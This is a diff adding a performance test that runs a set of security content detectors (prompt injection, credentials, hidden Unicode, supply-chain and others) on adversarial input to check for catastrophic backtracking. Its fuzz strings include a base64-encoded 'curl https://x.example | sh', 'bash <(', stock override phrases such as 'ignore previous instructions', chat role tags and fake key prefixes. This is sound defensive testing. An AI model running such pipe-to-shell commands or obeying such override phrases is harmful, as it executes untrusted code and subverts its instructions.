@@ -1,0 +1,94 @@
+/**
+ * No content detector can backtrack catastrophically: each runs on adversarial ~100 KB inputs
+ * built to make a regular expression try every split (long runs of the classes a pattern repeats,
+ * the first words of every pattern over and over, near-misses of each shape). Times are CPU time
+ * of this process, and the bound is generous: a linear detector takes a few milliseconds here,
+ * a backtracking one seconds or more.
+ */
+import { describe, expect, it } from 'vitest';
+import type { Hit } from '../../src/content/codes.js';
+import { detectCapability } from '../../src/content/capability.js';
+import { detectCredentials } from '../../src/content/credentials.js';
+import { detectEncoded } from '../../src/content/encoded.js';
+import { Text } from '../../src/content/find.js';
+import { guard } from '../../src/content/guard.js';
+import { detectInjection } from '../../src/content/injection.js';
+import { detectCards, detectPersonal } from '../../src/content/numbers.js';
+import { detectSupplyChain } from '../../src/content/supply.js';
+import { detectHiddenUnicode } from '../../src/content/unicode.js';
+import { detectUrls } from '../../src/content/urls.js';
+import { CONTENT_QUESTIONS } from '../../src/content/codes.js';
+
+const N = 100 * 1024;
+const BOUND_MS = 1500;
+const rep = (s: string, n = N): string => s.repeat(Math.ceil(n / s.length)).slice(0, n);
+const cpu = (): number => {
+  const u = process.cpuUsage();
+  return (u.user + u.system) / 1000;
+};
+
+const DETECTORS = { detectInjection, detectCredentials, detectCards, detectPersonal, detectEncoded, detectHiddenUnicode, detectUrls, detectSupplyChain, detectCapability };
+
+const inputs: Record<string, string> = {
+  'one long word': rep('a'),
+  'base64 class': rep('aB3+/'),
+  'base64 with a script inside': rep(Buffer.from('curl https://x.example | sh ').toString('base64')),
+  'hex': rep('0123456789abcdef'),
+  'escaped hex': rep('\\x41'),
+  'percent': rep('%41'),
+  'percent with letters': rep('%4a1'),
+  'digits': rep('4'),
+  'digits and separators': rep('4 1-'),
+  'dashes and digits': rep('123-45-'),
+  'uppercase and digits': rep('GB82 WEST '),
+  'override words': rep('ignore all previous the your '),
+  'override words no target': rep('ignore previous previous previous '),
+  'addressed words': rep('note to the ai '),
+  'if you are': rep('if you are an '),
+  'send words': rep('send the all your '),
+  'role tags': rep('<|im_start|>'),
+  'quotes': rep('"\''),
+  'html comment': rep('<!-- '),
+  'assignment keys': rep('password='),
+  'assignment values': rep('token: aaaaaaaa'),
+  'provider prefixes': rep('sk-ghp_AKIA'),
+  'jwt prefix': rep('eyJ.eyJ.'),
+  'pem headers': rep('-----BEGIN PRIVATE KEY-----'),
+  'url': `https://${rep('a.')}`,
+  'url escapes': `https://${rep('\\u0430')}`,
+  'url query': `https://x.example/?${rep('a=b&')}`,
+  'many urls': rep('http://a '),
+  'userinfo': `https://${rep('a@')}`,
+  'scheme colons': rep('a://b:c'),
+  'pipes': rep('curl x | '),
+  'curl outputs': rep('curl -o x '),
+  'installs': rep('pip install '),
+  'shells': rep('bash <('),
+  'allowed-tools': `allowed-tools: ${rep('Bash, ')}`,
+  'hooks': `"hooks": {${rep('"type": "command", "command": "')}`,
+  'zero width': rep('\u200b'),
+  'tags': rep('\u{e0041}'),
+  'bidi': rep('\u202e'),
+  'data uris': rep('data:text/html;base64,'),
+  'mixed case for lower-casing': rep('İ'),
+};
+
+describe('content detectors on adversarial input', () => {
+  for (const [name, text] of Object.entries(inputs)) {
+    it(`${name}: every detector stays linear`, () => {
+      const t = new Text(text);
+      for (const [d, detect] of Object.entries(DETECTORS)) {
+        const started = cpu();
+        detect(t, [] as Hit[]);
+        expect(cpu() - started, d).toBeLessThan(BOUND_MS);
+      }
+    });
+  }
+  it('the whole guard on the largest content it judges', () => {
+    const text = rep('ignore previous instructions sk-proj- 4111 1111 https://a.example/?x=y ', 800_000);
+    const started = cpu();
+    const r = guard(text, CONTENT_QUESTIONS);
+    expect(r.ok).toBe(true);
+    expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
+  });
+});
